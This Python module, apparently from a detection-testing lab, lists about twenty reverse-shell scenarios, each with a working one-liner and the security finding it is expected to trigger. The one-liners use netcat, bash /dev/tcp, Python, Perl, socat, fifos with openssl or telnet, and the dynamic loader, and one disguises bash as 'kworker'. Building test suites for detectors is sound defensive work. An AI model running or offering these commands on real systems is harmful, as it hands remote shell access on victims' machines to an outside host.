"""Reverse shells: a shell in the task whose streams lead to a peer outside, over a connection the task opened."""

from typing import Final

from outrider_lab.attacks.scenario import REVERSE_SHELL, SHELL_PEER, SHELL_PEER_TLS, Peer, Scenario

_PYTHON_DUP2: Final = """
import os, socket, subprocess
s = socket.create_connection(("{host}", {port}))
for fd in (0, 1, 2): os.dup2(s.fileno(), fd)
subprocess.call(["/bin/sh", "-i"])
"""
_PYTHON_PTY: Final = """
import os, pty, socket
s = socket.create_connection(("{host}", {port}))
for fd in (0, 1, 2): os.dup2(s.fileno(), fd)
pty.spawn("/bin/bash")
"""
_PERL: Final = (
    'use Socket; socket(S, PF_INET, SOCK_STREAM, getprotobyname("tcp"));'
    ' connect(S, sockaddr_in({port}, inet_aton("{host}"))) or die;'
    ' open(STDIN, ">&S"); open(STDOUT, ">&S"); open(STDERR, ">&S"); exec("/bin/sh -i");'
)


def _shell(
    name: str, idea: str, command: str, *tools: str, peer: Peer = SHELL_PEER, also: tuple[str, ...] = ()
) -> Scenario:
    return Scenario(
        name=f"reverse-shell-{name}",
        idea=idea,
        command=command,
        finding=REVERSE_SHELL,
        allowed=also,
        peer=peer,
        expect="uid=0",
        tools=tools,
    )


REVERSE_SHELLS: Final = (
    _shell("nc", "netcat executes a shell", "nc.traditional {host} {port} -e /bin/sh", "nc.traditional"),
    _shell("ncat", "ncat executes a shell", "ncat {host} {port} -e /bin/bash", "ncat"),
    _shell("busybox", "busybox's netcat executes a shell", "busybox nc {host} {port} -e /bin/sh", "busybox"),
    _shell("bash", "bash redirects itself to /dev/tcp", "bash -c 'bash -i >& /dev/tcp/{host}/{port} 0>&1'", "bash"),
    _shell(
        "high-descriptor",
        "bash keeps the connection above descriptor 2, and runs what cat reads from it line by line",
        "bash -c 'exec 5<>/dev/tcp/{host}/{port}; cat <&5 | while read -r line; do eval \"$line\" >&5 2>&5; done'",
        "bash",
    ),
    _shell(
        "own-descriptor",
        "bash reads lines from a connection above descriptor 2 by itself, and sends there what they print",
        "bash -c 'exec 5<>/dev/tcp/{host}/{port}; while read -r -u5 line; do eval \"$line\" >&5 2>&5; done'",
        "bash",
    ),
    _shell(
        "descriptor-196",
        "sh is given a connection that bash opened on a high descriptor",
        "bash -c '0<&196; exec 196<>/dev/tcp/{host}/{port}; sh <&196 >&196 2>&196'",
        "bash",
    ),
    _shell("python", "python puts the connection in the place of its streams", f"{{python}} -c '{_PYTHON_DUP2}'"),
    _shell("python-pty", "python relays between the connection and a terminal", f"{{python}} -c '{_PYTHON_PTY}'"),
    _shell("perl", "perl reopens its streams on the connection", f"perl -e '{_PERL}'", "perl"),
    _shell("socat", "socat executes a shell on a socket pair", "socat TCP:{host}:{port} EXEC:/bin/sh", "socat"),
    _shell(
        "socat-pipes",
        "socat executes a shell on two pipes",
        "socat TCP:{host}:{port} EXEC:/bin/sh,pipes",
        "socat",
    ),
    _shell(
        "socat-pty",
        "socat executes a shell on a terminal",
        "socat TCP:{host}:{port} EXEC:'/bin/bash -i',pty,stderr,setsid,sigint,sane",
        "socat",
    ),
    _shell(
        "fifo-nc",
        "a fifo and netcat without -e",
        "f=/tmp/f{port}; mkfifo $f; cat $f | /bin/sh -i 2>&1 | nc.openbsd {host} {port} >$f; rm -f $f",
        "nc.openbsd",
    ),
    _shell(
        "fifo-openssl",
        "a fifo and a TLS client",
        "f=/tmp/s{port}; mkfifo $f;"
        " /bin/sh -i <$f 2>&1 | openssl s_client -quiet -connect {host}:{port} >$f 2>/dev/null; rm -f $f",
        "openssl",
        peer=SHELL_PEER_TLS,
    ),
    _shell(
        "by-loader",
        "the dynamic loader is told to run the shell between a fifo and netcat",
        "f=/tmp/l{port}; mkfifo $f; nc.openbsd {host} {port} <$f"
        " | $(ls /lib64/ld-linux-*.so.? /lib/ld-linux-*.so.? 2>/dev/null | head -n 1) /bin/sh >$f 2>&1; rm -f $f",
        "nc.openbsd",
    ),
    _shell(
        "named-input",
        "a shell between a fifo and netcat is given its standard input as its script, by name",
        "f=/tmp/n{port}; mkfifo $f; nc.openbsd {host} {port} <$f | bash /dev/stdin >$f 2>&1; rm -f $f",
        "nc.openbsd",
        "bash",
    ),
    _shell(
        "text-that-reads",
        "a shell between a fifo and netcat is given a command that reads and runs more",
        "f=/tmp/r{port}; mkfifo $f;"
        " nc.openbsd {host} {port} <$f | sh -c 'while read line; do eval \"$line\"; done' >$f 2>&1; rm -f $f",
        "nc.openbsd",
    ),
    _shell(
        "telnet",
        "telnet between a fifo and a shell",
        "f=/tmp/t{port}; mkfifo $f; telnet {host} {port} <$f | /bin/sh >$f 2>&1; rm -f $f",
        "telnet",
    ),
    _shell(
        "renamed",
        "a copy of bash under another name redirects itself to /dev/tcp",
        "cp /bin/bash /tmp/kworker;"
        " /tmp/kworker -c '/tmp/kworker -i >& /dev/tcp/{host}/{port} 0>&1'; rm -f /tmp/kworker",
        "bash",
        also=("Execution:Runtime/NewBinaryExecuted",),
    ),
)
